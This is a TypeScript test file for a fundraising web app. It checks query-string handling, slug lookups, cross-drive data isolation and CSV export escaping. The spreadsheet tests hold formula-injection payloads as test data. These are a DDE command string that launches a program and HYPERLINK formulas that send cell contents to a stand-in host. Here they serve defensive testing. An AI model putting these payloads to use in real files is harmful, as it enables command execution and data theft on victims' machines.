import { sql } from 'kysely'
import { describe, expect, test } from 'vitest'
import { loader as statement } from '#app/base/ledger/pages/statement.tsx'
import { loader as comments } from '#app/drives/comments/pages/comments.tsx'
import { loader as preview } from '#app/drives/drive/api/preview-picture.ts'
import { ownDrive } from '#app/drives/drive/drive.server.ts'
import { driveContext } from '#app/drives/drive/pages/context.tsx'
import { loader as dashboard } from '#app/drives/drive/pages/dashboard.tsx'
import { loader as description } from '#app/drives/drive/pages/description.tsx'
import { loader as images } from '#app/drives/gallery/pages/images.tsx'
import { loader as videos } from '#app/drives/gallery/pages/video.tsx'
import { loader as seen } from '#app/drives/public-page/api/seen.ts'
import { action as comment, loader as commentSheet } from '#app/drives/public-page/pages/comment.tsx'
import { loader as fundraiser } from '#app/drives/public-page/pages/page.tsx'
import { loader as parts } from '#app/drives/public-page/pages/parts.ts'
import { action as track } from '#app/drives/views/api/track-view.ts'
import { loader as analytics } from '#app/drives/views/pages/analytics.tsx'
import { newPageToken } from '#app/drives/views/report.server.ts'
import { loader as rsvps } from '#app/drives/visits/pages/rsvps.tsx'
import { oneLine } from '#app/kit/lines.ts'
import { loader as donations } from '#app/money/donations/pages/donations.tsx'
import { loader as payouts } from '#app/money/payouts/pages/payouts.tsx'
import { personContext } from '#app/people/accounts/session.server.ts'
import { asking } from '#test/asking.ts'
import * as bad from '#test/bad-input.ts'
import * as places from '#test/bad-places.ts'
import { testDatabase } from '#test/database.ts'
import { actionAt, ask, sendTo } from '#test/form-actions.ts'
import { someDrive } from '#test/make.ts'
import { fileOf } from '#test/owners-lists.ts'
import { query } from '#test/rows.ts'

// Addresses as nobody of us writes them: whatever a list is asked for, something sensible comes of it; whatever a drive
// is called, it is that drive or none.

const db = await testDatabase()
const commentsJson = actionAt(parts, 'fundraiser/:slug/comments.json')
const { id, slug, ownerId } = await someDrive(db)
const other = await someDrive(db, { title: 'Mwingine' })
const drive = (await ownDrive(db, ownerId, slug))!
await sql`
  insert into fund_drive_comments (fund_drive_id, name, content, visitor, fingerprint)
  select ${id}, 'Amina', 'Hongera ' || n, 'v', repeat('x', 43) from generate_series(1, 25) n`.execute(db)
await query`
  insert into fund_drive_reservations (fund_drive_id, name, email, phone, visit_date, visit_time)
  select ${id}, 'Guest ' || n, 'g@example.org', '+254712345678', '2027-01-05', '09:00' from generate_series(1, 3) n`
const set = (context: { set: (of: never, value: never) => void }) => {
  context.set(
    personContext as never,
    { id: ownerId, email: 'o@example.org', fullName: 'Owner', isAdmin: false } as never,
  )
  context.set(driveContext as never, drive as never)
}

describe('a list that is asked for in an odd way', () => {
  const names = 'search status cursor state before after day days comments tab edit url'.split(' ')
  const address = (value: string) => {
    const query = new URLSearchParams(names.map((name) => [name, value.toWellFormed()]))
    return { once: `/?${query}`, twice: `/?${query}&${query}`, list: `/?${query.toString().replaceAll('=', '[]=')}` }
  }
  const pages = { dashboard, comments, rsvps, analytics, description, images, videos, donations, statement, payouts }
  const files = Object.fromEntries(
    ['donations', 'statement', 'payouts', 'comments', 'rsvps', 'analytics'].map((page) => [
      `${page}.csv`,
      fileOf(page),
    ]),
  )

  test.each(bad.named(places.badQueries()))('%s', async (_, value) => {
    const { once, twice, list } = address(value)
    for (const path of [once, twice, list]) {
      const answers = await Promise.all(
        Object.entries({ ...pages, ...files }).map(async ([name, loader]) => [
          name,
          (await ask(loader, { path, set })).status,
        ]),
      )
      expect(answers).toEqual([...Object.keys({ ...pages, ...files })].map((name) => [name, 200]))
    }
    const path = `/fundraiser/${slug}${once.slice(1)}`
    const open = await ask(fundraiser, { path, params: { slug } })
    expect([open.status, (open.data as { drive: { id: string } }).drive.id]).toEqual([200, id])
    const json = await ask(commentsJson, { path, params: { slug } })
    expect(json.status).toBe(200)
    expect(JSON.parse(json.data as string)).toHaveProperty('comments')
  })

  test('without a place that we gave begins at its beginning, and says which filter counts', async () => {
    for (const odd of ['-1', '1e3', ' 5', '0', '5;6', '٥', '']) {
      const { data } = await ask(comments, { path: `/?after=${encodeURIComponent(odd)}&state=SHOWN`, set })
      expect(data).toMatchObject({ found: [{ filter: { state: null }, rows: { length: 20 } }, {}] })
      const visits = await ask(rsvps, { path: `/?day=${encodeURIComponent(odd)}&status=Pending&after=${odd}`, set })
      expect(visits.data).toMatchObject({ list: { filter: { status: null, day: null }, rows: { length: 3 } } })
      expect((await ask(analytics, { path: `/?days=${encodeURIComponent(odd)}`, set })).data).toMatchObject({
        days: 30,
      })
      const cards = await ask(dashboard, { path: `/?status=Active&cursor=${encodeURIComponent(odd)}`, set })
      expect(cards.data).toMatchObject({ drives: { cards: [{ id }] } })
    }
  })

  test('of another drive shows nothing of it', async () => {
    const theirs = await sql<{ id: number }>`
      insert into fund_drive_comments (fund_drive_id, content, visitor, fingerprint)
      values (${other.id}, 'Siri', 'v', repeat('x', 43)) returning id`.execute(db)
    const behind = JSON.stringify([String(theirs.rows[0]!.id + 1), String(theirs.rows[0]!.id + 1)])
    const { data } = await ask(comments, { path: `/?after=${Buffer.from(behind).toString('base64url')}`, set })
    expect(data).toMatchObject({ found: [{ rows: { length: 20 } }, {}] })
    expect(JSON.stringify(data)).not.toContain('Siri')
    const json = await ask(commentsJson, { path: `/?before=${theirs.rows[0]!.id + 1}`, params: { slug } })
    expect(json.data).not.toContain('Siri')
  })
})

describe('a drive that is called', async () => {
  const gone = await someDrive(db, { ownerId, title: 'Imefutwa' })
  await db.deleteFrom('fund_drives').where('id', '=', gone.id).execute()
  await db.insertInto('retired_slugs').values({ slug: gone.slug }).execute()
  const slugs = [
    ...places.badIds(),
    gone.slug,
    id,
    `${slug}/`,
    `${slug}%20`,
    ` ${slug}`,
    `${slug}\n`,
    `-${slug}`,
    `${slug}-`,
  ]
  const more = [`${slug}--2`, slug.replaceAll('-', '_'), 'heal-mama-achiéng', 'ｈｅａｌ-mama-achieng', 'x'.repeat(81)]

  test.each(bad.named([...slugs, ...more]))('%s is none', async (_, odd) => {
    const at = { path: '/fundraiser/x', params: { slug: odd } }
    const page = await ask(fundraiser, at)
    expect([page.status, page.data]).toEqual([404, { is: 'missing', paused: null, byHand: null }])
    expect((await ask(commentsJson, at)).status).toBe(404)
    expect((await ask(commentSheet, at)).status).toBe(404)
    expect((await ask(preview, { ...at, params: { slug: odd, file: 'x.jpg' } })).status).toBe(404)
    expect((await ask(seen, at)).status).toBe(200)
    const { status } = await sendTo(comment, { content: 'Pole' }, { params: { slug: odd } })
    expect(status).toBe(404)
  })

  test.each([slug.toUpperCase(), 'Heal-Mama-Achieng', `${slug}/`, `${slug}//`, `${slug.toUpperCase()}///`])(
    '%s leads to the one address',
    async (odd) => {
      const { status, to } = await ask(fundraiser, { path: `/fundraiser/${odd}?tab=comments`, params: { slug: odd } })
      expect([status, to]).toEqual([301, `/fundraiser/${slug}?tab=comments`])
    },
  )

  test.each(bad.named(places.badIds()))('with the preview %s leads to today’s', async (_, file) => {
    const { status, to } = await ask(preview, { params: { slug, file } })
    expect(status).toBe(302)
    expect(to).toMatch(new RegExp(`^/fundraiser/${slug}/preview/[\\w-]+\\.jpg$`))
  })
})

describe('a file for a spreadsheet', () => {
  /** The cells of a file, as a spreadsheet reads them. */
  const cellsOf = (text: string) =>
    [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/g)].map(([, quoted, plain]) =>
      quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
    )
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '=cmd|" /C calc"!A0',
    '-2+3',
    '+254712345678',
    '@SUM(1,2)',
  ]
  const tails = ['', '1;2', 'HYPERLINK("http://a.example?x="&A1,"Bonyeza")', '\t=1', '\n=1', ',=1', '"=1']
  const formulas = starts.flatMap((start) => tails.map((tail) => `${start}x${tail}`))

  test.each(bad.named(bad.some(formulas)))('runs nothing: %s', async (_, typed) => {
    const { status } = await sendTo(comment, { content: typed, name: typed }, { params: { slug: other.slug } })
    expect(status).toBe(200)
    const theirs = (await ownDrive(db, other.ownerId, other.slug))!
    const { data } = await ask(fileOf('comments'), { set: (context) => context.set(driveContext, theirs) })
    const cells = cellsOf(data as string)
    expect(cells.filter((cell) => /^[\s\ufeff]*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    const row = await db.selectFrom('fund_drive_comments').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow()
    // What is kept, and shown on pages, is what was typed; only the file has the sign before it.
    expect(row.content).toBe(typed.trim())
    expect(cells).toContain(`'${row.content}`)
    expect(cells).toContain(`'${row.name}`)
    await db.deleteFrom('fund_drive_comments').where('id', '=', row.id).execute()
  })

  test('runs no place that a program told', async () => {
    expect(await told('=1+1')).toMatchObject({ status: 200, place: '=1+1' })
    const theirs = (await ownDrive(db, other.ownerId, other.slug))!
    const { data } = await ask(fileOf('analytics'), { set: (context) => context.set(driveContext, theirs) })
    expect(cellsOf(data as string)).toContain("'=1+1")
  })
})

test('a place that a program tells is kept as it was meant, or refused', async () => {
  for (const text of bad.badTexts()) {
    const { status, place } = await told(text)
    const sent = text.replaceAll('\0', '').replace(/\r\n?/g, '\n')
    const fits = [...sent].length <= 80
    expect([text.slice(0, 40), status]).toEqual([text.slice(0, 40), fits ? 200 : 400])
    if (fits) expect(place).toBe(oneLine(text) || 'Unknown')
  }
})

let visitor = 0
/** Tells a visit of the other drive from this place; what was kept of it. */
async function told(location: string) {
  const views = { views: 1000, remaining_views: 1000 - visitor, used_views: visitor }
  await db.updateTable('subscriptions').set(views).where('fund_drive_id', '=', other.id).execute()
  const { context, url } = asking({ path: '/api/track-view?cookie=asked', address: `10.9.${visitor++}.1` })
  const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0'
  const headers = {
    'content-type': 'application/json',
    origin: 'http://harambee.test',
    'user-agent': agent,
    'page-token': newPageToken(other.id),
  }
  const body = JSON.stringify({ fund_drive_id: other.id, device_type: 'mobile', location })
  const { status } = await track({
    request: new Request(url, { method: 'POST', headers, body }),
    context,
    params: {},
  })
  const newest = await db
    .selectFrom('fund_drive_views')
    .select('location')
    .where('fund_drive_id', '=', other.id)
    .orderBy('id', 'desc')
    .executeTakeFirst()
  return { status, place: newest?.location }
}
